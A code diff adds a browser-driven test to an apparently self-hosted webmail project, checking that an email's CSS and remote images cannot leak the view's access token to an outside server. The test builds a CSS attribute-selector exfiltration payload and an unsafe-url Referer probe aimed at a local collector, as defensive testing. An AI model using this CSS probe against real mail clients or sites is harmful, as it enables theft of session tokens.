@@ -7,9 +7,12 @@ Skipped, with the reason, where chromium or chromedriver is not installed.
 
 from __future__ import annotations
 
+import base64
 import email.utils
+import http.server
 import shutil
 import smtplib
+import threading
 from collections.abc import Iterator
 from email.message import EmailMessage
 from pathlib import Path
@@ -350,3 +353,85 @@ def test_web_browser_without_the_token_a_guarded_view_shows_nothing(
         wait(browser, lambda b: "403" in b.find_element(By.ID, "error").text, "no refusal")
         assert browser.find_elements(By.CSS_SELECTOR, "li.box") == []
         browser.get("about:blank")
+
+
+# A 1x1 PNG.
+PIXEL = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+)
+
+
+class _Collector(http.server.BaseHTTPRequestHandler):
+    """A remote server of the message's choosing: records each request it is sent."""
+
+    hits: list[tuple[str, str]] = []
+    arrived: dict[str, threading.Event] = {}
+
+    def do_GET(self) -> None:
+        self.hits.append((self.path, str(self.headers)))
+        self.arrived.setdefault(self.path, threading.Event()).set()
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def collector() -> Iterator[tuple[str, type[_Collector]]]:
+    handler = type("Collector", (_Collector,), {"hits": [], "arrived": {}})
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", handler
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(TIMEOUT)
+
+
+def test_web_browser_guarded_view_message_css_cannot_read_the_token(
+    browser: Any, stack: MailStack, collector: tuple[str, type[_Collector]]
+) -> None:
+    remote, seen = collector
+    with WebView(stack, read_token=True) as guarded:
+        # Same selector weight, later rule wins: the control request is made only when
+        # neither leak rule matches the image's URL (the cascade picks one background).
+        css = (
+            f'img[src*="/api/message/attachment"]{{background-image:url({remote}/control)}}'
+            f'img[src*="token"]{{background-image:url({remote}/leak-param)}}'
+            f'img[src*="{guarded.token}"]{{background-image:url({remote}/leak-token)}}'
+        )
+        html = (
+            f"<html><head><style>{css}</style></head><body><p id='hello'>newsletter</p>"
+            "<img id='logo' src='cid:logo@x' width='8' height='8'>"
+            # Its frame's URL, sent as Referer whatever the response's Referrer-Policy.
+            f"<img src='{remote}/referer' referrerpolicy='unsafe-url'></body></html>"
+        )
+        msg = EmailMessage()
+        msg["From"] = stack.user("example.com").address
+        msg["To"] = stack.user("example.org").address
+        msg["Subject"] = "css probe"
+        msg.set_content("text\n")
+        msg.add_alternative(html, subtype="html")
+        msg.get_payload()[1].add_related(PIXEL, "image", "png", cid="<logo@x>")
+        open_inbox(browser, guarded, stack)
+        submit(stack, msg.as_bytes().replace(b"\n", b"\r\n").replace(b"\r\r\n", b"\r\n"))
+        open_message(browser, "css probe")
+        browser.find_element(By.ID, "remote").click()
+        frame = browser.find_element(By.ID, "html-frame")
+        wait(browser, lambda b: "remote=1" in frame.get_attribute("src"), "frame not reloaded")
+        assert guarded.token not in frame.get_attribute("src")
+        for path in ("/control", "/referer"):
+            event = seen.arrived.setdefault(path, threading.Event())
+            assert event.wait(TIMEOUT), f"no {path} request: {seen.hits}"
+        leaked = [hit for hit in seen.hits if guarded.token in hit[0] + hit[1]]
+        assert leaked == []
+        assert not [path for path, _ in seen.hits if path.startswith("/leak")], seen.hits
+        # The inline image still loads, by its capability.
+        browser.switch_to.frame(frame)
+        logo = wait(browser, lambda b: b.find_element(By.ID, "logo"), "no image")
+        wait(browser, lambda b: logo.get_property("naturalWidth") == 1, "image not loaded")
+        browser.switch_to.default_content()
+        browser.get("about:blank")  # the page's stream closes before the view stops
